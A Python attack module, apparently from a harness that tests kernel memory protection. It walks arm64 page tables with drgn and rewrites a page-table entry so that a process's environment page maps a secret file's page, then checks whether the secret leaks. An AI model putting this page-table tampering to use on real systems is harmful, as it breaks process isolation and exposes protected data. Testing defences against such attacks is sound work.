# SPDX-License-Identifier: Apache-2.0
"""Patch a page table: map a secret page into a process."""

from drgn.helpers.linux.pid import find_task

from harness.devices.attacks.attack import ON_KERNEL_MEMORY, Attack, Observation
from harness.devices.attacks.context import Context
from harness.devices.attacks.judging import damage
from harness.observe.memory.page_tables import address_mask, translation_bits

ENTRY, ADDRESS_BITS = 8, 64

START = """
HARMLESS=yes sleep 1000 > /dev/null 2>&1 &
until grep -q HARMLESS /proc/$!/environ; do :; done
echo $!
"""
"""A process that has begun to be what it will be: before that it has its parent's memory."""


def run(context: Context) -> Observation:
    """Let the page of a process's environment be the page of a secret file."""
    secret, wanted = context.secret_file()
    pid = context.sh(START)
    place = _entry(context, int(pid))
    old = int.from_bytes(context.memory.read(place, ENTRY), "little")
    new = (old & ~address_mask(context.page) | wanted).to_bytes(ENTRY, "little")
    context.rogue.write(place, new)
    seen = context.guest.agent.read_file(f"/proc/{pid}/environ")
    shown = "the secret" if secret in seen else repr(seen[:24])
    return damage(context, place, new, secret in seen, f"its environment shows {shown}")


def _entry(context: Context, pid: int) -> int:
    """The address of the last level's entry for the start of a process's environment."""
    mm = find_task(context.types.program, pid).mm
    address: int = mm.env_start.value_()
    bits = ADDRESS_BITS - int(context.types.vmcoreinfo("NUMBER(TCR_EL1_T1SZ)"), 0)
    table = context.phys(mm.pgd[0])
    page_bits, level_bits = translation_bits(context.page)
    for shift in reversed(range(page_bits, bits, level_bits)):
        place = table + (address >> shift) % (context.page // ENTRY) * ENTRY
        entry = int.from_bytes(context.memory.read(place, ENTRY), "little")
        table = entry & address_mask(context.page)
    return place


ATTACK = Attack("maps a secret into a process by its page table", run, ON_KERNEL_MEMORY)
